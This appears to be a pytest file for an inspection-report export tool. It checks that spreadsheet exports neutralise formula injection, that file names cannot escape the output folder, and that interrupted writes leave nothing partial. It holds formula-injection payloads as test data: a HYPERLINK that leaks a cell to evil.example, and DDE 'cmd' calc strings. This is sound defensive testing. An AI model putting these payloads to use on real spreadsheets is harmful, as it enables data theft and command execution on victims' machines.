"""What must never happen: a formula run from a spreadsheet cell, a half-written file, a write outside the target."""

from __future__ import annotations

import csv
import io
import os
from pathlib import Path

import pytest

from exports.atomic import ExportCancelled
from exports.letters import letter_file_name
from exports.report import FORMULA_START, build_report, to_csv
from exports.writers import write_evidence_pack, write_referral_letters, write_tables
from exports.xlsx import tables_xlsx
from models.errors import FieldworkError
from models.files import write_all_atomically
from models.inspection.framework import FRAMEWORKS_DIR, parse_framework
from models.inspection.services import InspectionService
from tests.conftest import PASSPHRASE
from tests.exports.readback import pdf_text, report_and_provenance, xlsx_workbook

HOSTILE_REF = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def hostile_inspection(path: Path) -> InspectionService:
    """Every text that reaches a cell start is attacker-shaped: force name, inspectorate, a case type label."""
    source = (FRAMEWORKS_DIR / "ncpi-2017.toml").read_text(encoding="utf-8")
    source = source.replace('inspectorate = "HMIC"', 'inspectorate = "@SUM(1+1)"')
    source = source.replace('label = "Missing children"', 'label = "-2+3 missing children"')
    source = source.replace('label = "Police protection"', 'label = "+cmd|\' /C calc\'!A0"')
    framework = parse_framework(source, origin="hostile framework")
    service = InspectionService.create(path, PASSPHRASE, force_name="=1+1 Police", actor="lead",
                                       framework=framework, chief_officer="Chief Constable")
    service.add_case(HOSTILE_REF, "missing", "self-assessed", "good")
    service.set_grade(HOSTILE_REF, "lead", "inadequate")
    service.set_note(HOSTILE_REF, "lead", "overall", "=cmd|' /C calc'!A0 note")
    service.raise_referral(HOSTILE_REF, "immediate-risk", "=2*3 summary")
    return service


def test_xlsx_never_holds_a_formula(tmp_path: Path) -> None:
    service = hostile_inspection(tmp_path / "hostile.fieldwork")
    try:
        report, provenance = report_and_provenance(service)
    finally:
        service.close()
    workbook = xlsx_workbook(tables_xlsx(report, provenance))
    texts = []
    for ws in workbook.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_START), f"{ws.title}!{cell.coordinate}"
                    texts.append(cell.value)
    # The hostile texts are there, neutralised with a leading apostrophe, not dropped.
    assert "'@SUM(1+1) assessment" in texts
    assert "'-2+3 missing children" in texts
    assert "'+cmd|' /C calc'!A0" in texts
    assert any(t.startswith("'=1+1 Police · inspection") for t in texts)
    assert any(t.startswith("'@SUM(1+1) also assessed these cases") for t in texts)


def test_csv_never_starts_a_cell_with_a_formula_character(tmp_path: Path) -> None:
    service = hostile_inspection(tmp_path / "hostile.fieldwork")
    try:
        target = write_tables(service, "csv", tmp_path / "tables.csv")
    finally:
        service.close()
    cells = [cell for row in csv.reader(io.StringIO(target.read_text(encoding="utf-8"))) for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_START)]
    assert "'@SUM(1+1) assessment" in cells and "'-2+3 missing children" in cells


def test_hostile_case_reference_and_note_in_letters_and_evidence(tmp_path: Path) -> None:
    service = hostile_inspection(tmp_path / "hostile.fieldwork")
    out = tmp_path / "letters"
    out.mkdir()
    try:
        written = write_referral_letters(service, out, sender="A. Lead")
        pack = write_evidence_pack(service, HOSTILE_REF, tmp_path / "pack.pdf")
    finally:
        service.close()
    # The reference cannot steer the file name out of the folder, and is printed as plain text.
    assert written[0].parent == out and written[0].name == letter_file_name(HOSTILE_REF)
    assert "/" not in written[0].name[len("referral-"):] and written[0].name.startswith("referral-HYPERLINK")
    assert f"Referral of case {HOSTILE_REF}" in pdf_text(written[0])
    text = pdf_text(pack)
    assert HOSTILE_REF in text and "=cmd|' /C calc'!A0 note" in text and "=2*3 summary" in text


def leftovers(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir())


@pytest.mark.parametrize("fmt", ["pdf", "docx", "xlsx", "csv"])
def test_export_to_a_missing_folder_fails_clearly_and_writes_nothing(demo, tmp_path: Path, fmt: str) -> None:
    missing = tmp_path / "no-such-folder"
    with pytest.raises(FieldworkError, match=f"Cannot write in {missing}: the folder does not exist"):
        write_tables(demo, fmt, missing / f"tables.{fmt}")
    assert not missing.exists()


@pytest.mark.parametrize("fmt", ["pdf", "docx", "xlsx", "csv"])
def test_export_under_a_file_fails_clearly_and_writes_nothing(demo, tmp_path: Path, fmt: str) -> None:
    blocker = tmp_path / "report.txt"
    blocker.write_text("a file, not a folder")
    before = leftovers(tmp_path)
    with pytest.raises(FieldworkError, match="the folder does not exist"):
        write_tables(demo, fmt, blocker / f"tables.{fmt}")
    assert leftovers(tmp_path) == before
    assert blocker.read_text() == "a file, not a folder"


def test_export_to_a_read_only_folder_fails_clearly(demo, tmp_path: Path, monkeypatch) -> None:
    folder = tmp_path / "read-only"
    folder.mkdir()
    folder.chmod(0o555)
    if os.access(folder, os.W_OK):
        # Root ignores permissions (CI runs as root): the operating system's answer is emulated instead.
        real_access = os.access
        monkeypatch.setattr(os, "access", lambda path, mode, **kw: False if Path(path) == folder
                            else real_access(path, mode, **kw))
    try:
        with pytest.raises(FieldworkError, match="the folder is read-only"):
            write_tables(demo, "pdf", folder / "tables.pdf")
        assert leftovers(folder) == []
    finally:
        folder.chmod(0o755)


def test_cancelled_export_leaves_nothing_and_keeps_the_old_file(demo, tmp_path: Path) -> None:
    target = tmp_path / "tables.pdf"
    target.write_bytes(b"the previous export")
    calls = []

    def cancel_midway(done: int, total: int) -> bool:
        calls.append(done)
        return done < 3

    for fmt in ("pdf", "docx", "xlsx"):
        calls.clear()
        with pytest.raises(ExportCancelled, match="cancelled; nothing was written"):
            write_tables(demo, fmt, tmp_path / "tables.pdf", progress=cancel_midway)
        assert calls[-1] == 3
    assert target.read_bytes() == b"the previous export"
    assert [p for p in leftovers(tmp_path) if p.startswith(".")] == []


def test_cancelled_letters_write_nothing_and_mark_nothing(demo_awaiting_letters, tmp_path: Path) -> None:
    demo = demo_awaiting_letters
    with pytest.raises(ExportCancelled):
        write_referral_letters(demo, tmp_path, sender="A. Lead", progress=lambda done, total: done < 5)
    assert not list(tmp_path.glob("*.pdf"))
    assert {r.status for r in demo.referrals()} == {"raised"}


def test_a_failure_midway_through_the_letters_removes_those_already_written(demo_awaiting_letters, tmp_path: Path) -> None:
    demo = demo_awaiting_letters
    out = tmp_path / "letters"
    out.mkdir()
    third = demo.referrals()[2].case_ref
    (out / letter_file_name(third)).mkdir()  # the third letter cannot replace a folder
    with pytest.raises(FieldworkError, match=f"Cannot write {out / letter_file_name(third)}"):
        write_referral_letters(demo, out, sender="A. Lead")
    assert leftovers(out) == [letter_file_name(third)]
    assert {r.status for r in demo.referrals()} == {"raised"}


def test_write_all_atomically_removes_only_files_it_created(tmp_path: Path) -> None:
    folder = tmp_path / "out"
    folder.mkdir()
    kept = folder / "a.pdf"
    kept.write_bytes(b"old")
    (folder / "b.pdf").mkdir()
    with pytest.raises(FieldworkError):
        write_all_atomically({kept: b"new", folder / "c.pdf": b"c", folder / "b.pdf": b"b"})
    assert leftovers(folder) == ["a.pdf", "b.pdf"]
    assert kept.read_bytes() == b"new"  # replaced whole by the rename, never half-written


def test_csv_report_text_matches_the_shared_to_csv(demo, tmp_path: Path) -> None:
    target = write_tables(demo, "csv", tmp_path / "t.csv")
    assert target.read_text(encoding="utf-8") == to_csv(build_report(demo.tally()))


def test_an_interrupted_write_leaves_no_hidden_partial_file(tmp_path, monkeypatch) -> None:
    import os

    from models.files import write_atomically

    def interrupted(*args: object) -> None:
        raise KeyboardInterrupt

    folder = tmp_path / "out"
    folder.mkdir()
    monkeypatch.setattr(os, "replace", interrupted)
    with pytest.raises(KeyboardInterrupt):
        write_atomically(folder / "tables.csv", "Table 1\n")
    assert list(folder.iterdir()) == []
